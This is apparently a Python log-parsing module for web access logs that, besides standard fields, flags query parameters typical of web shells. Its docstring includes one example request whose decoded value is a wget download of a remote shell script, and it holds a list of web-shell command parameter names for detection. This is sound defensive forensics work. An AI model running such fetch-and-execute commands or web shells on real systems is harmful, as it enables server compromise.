"""Web access logs: Apache/nginx combined and common log format, and Apache's vhost_combined.

Fields: `vhost` (vhost_combined's `host:port`), `client` (IP or hostname, as logged), `ident`, `user`,
`request` (the raw request line), `method`, `target` (the raw request target), `path` (percent-decoded,
no query), `query` (raw, no `?`), `query_decoded` (percent- and plus-decoded, for display), `protocol`,
`status` (int), `size` (int; None for `-`), `referer`, `user_agent`; and `command_param` / `command`:
the first query parameter named like a web-shell command parameter (`COMMAND_PARAMS`; case-insensitive
except one-letter names) and its decoded value, so
`GET /uploads/x.php?c=wget%20http%3A%2F%2F203.0.113.9%2Fx.sh` gives `command = "wget http://203.0.113.9/x.sh"`.

A malformed request (`"-"`, TLS bytes sent to a plain-HTTP port, no protocol) keeps `request` and the
fields around it; only the parts of the request line that are there are set. Quoted fields are taken
as logged (Apache's `\\"` and `\\xhh` escapes are not undone).
"""

from __future__ import annotations

from urllib.parse import unquote, unquote_plus

from tools.logformats.model import FieldValue, Match, ParsedLine, as_int, compile_pattern, decode
from tools.logsearch.timestamps import parse_access

FIELDS: tuple[str, ...] = (
    "vhost", "client", "ident", "user", "request", "method", "target", "path", "query", "query_decoded",
    "protocol", "status", "size", "referer", "user_agent", "command_param", "command",
)  # fmt: skip

# Query parameter names web shells commonly take a command in (c99/r57/b374k/China Chopper-style
# one-liners: `system($_GET['c'])`, `?cmd=`, `?exec=`...). `q`/`s`/`id` are left out: search boxes.
COMMAND_PARAMS = frozenset(
    {"c", "cmd", "command", "exec", "execute", "run", "shell", "system", "passthru", "shell_exec",
     "popen", "proc_open", "e", "comando"}
)  # fmt: skip

_QUOTED = r'"((?:[^"\\]|\\.)*)"'
# The user may hold spaces (a Basic-auth name as sent), never brackets: the first `[` starts the time.
_HEAD = (
    r"(?P<ident>[^ ]{1,255}) (?P<user>[^\[\]]{1,255}?) "
    r"\[(?P<stamp>\d{2}/[A-Z][a-z]{2}/\d{4}:\d{2}:\d{2}:\d{2} [+-]\d{4})\] "
)
_TAIL = (
    r"(?P<status>\d{3}|-) (?P<size>\d{1,18}|-)"
    r"(?: "
    + _QUOTED.replace("(", "(?P<referer>", 1)
    + " "
    + _QUOTED.replace("(", "(?P<user_agent>", 1)
    + ")?"
    r"(?: .*)?$"
)
_REQUEST = _QUOTED.replace("(", "(?P<request>", 1) + " "
_VHOST = compile_pattern(
    r"^(?P<vhost>[^ :\[\]]{1,255}:\d{1,5}) (?P<client>[^ ]{1,255}) " + _HEAD + _REQUEST + _TAIL
)
_PLAIN = compile_pattern(r"^(?P<client>[^ \[\]]{1,255}) " + _HEAD + _REQUEST + _TAIL)
# A request line with a raw `"` in it (some servers log it unescaped): the request runs to the
# last `" STATUS SIZE` on the line.
_LOOSE = compile_pattern(
    r"^(?P<client>[^ \[\]]{1,255}) " + _HEAD + r'"(?P<request>.*)" (?P<status>\d{3}|-) (?P<size>\d{1,18}|-)$'
)
_REQUEST_LINE = compile_pattern(
    r"^(?P<method>[A-Za-z][A-Za-z0-9_.-]{0,31}) (?P<target>.*?)(?: (?P<protocol>HTTP/[0-9.]{1,8}))?$"
)
_MAX_PARAMS = 200


def _request_fields(request: str) -> dict[str, FieldValue]:
    found = _REQUEST_LINE.match(request)
    if found is None:
        return {}
    target = found.group("target") or ""
    out: dict[str, FieldValue] = {"method": found.group("method"), "target": target}
    if found.group("protocol"):
        out["protocol"] = found.group("protocol")
    raw_path, has_query, query = target.partition("?")
    out["path"] = unquote(raw_path, errors="replace")
    if has_query:
        out["query"] = query
        out["query_decoded"] = unquote_plus(query, errors="replace")
        for pair in query.split("&", _MAX_PARAMS)[:_MAX_PARAMS]:
            name, _, value = pair.partition("=")
            name = unquote_plus(name, errors="replace")
            # One-letter names match only in lower case: Apache's directory index sorts by `?C=M;O=A`.
            if (name if len(name) == 1 else name.lower()) in COMMAND_PARAMS:
                out["command_param"] = name
                out["command"] = unquote_plus(value, errors="replace")
                break
    return out


def _fields(found: Match) -> dict[str, FieldValue]:
    out: dict[str, FieldValue] = {}
    for name in ("vhost", "client", "ident", "user", "request", "referer", "user_agent"):
        try:
            value = found.group(name)
        except (IndexError, KeyError):
            continue
        if value is not None:
            out[name] = value
    out.update(_request_fields(found.group("request") or ""))
    out["status"] = as_int(found.group("status"))
    out["size"] = as_int(found.group("size"))
    return out


def parse_access_line(line: bytes) -> ParsedLine | None:
    """The fields of one access-log line, or None when the line is not in an access-log format."""
    text = decode(line)
    found = _VHOST.match(text) or _PLAIN.match(text) or _LOOSE.match(text)
    if found is None:
        return None
    stamp = found.group("stamp") or ""
    time = parse_access(b"- - - [" + stamp.encode() + b"]")
    return ParsedLine("access", _fields(found), time, False)
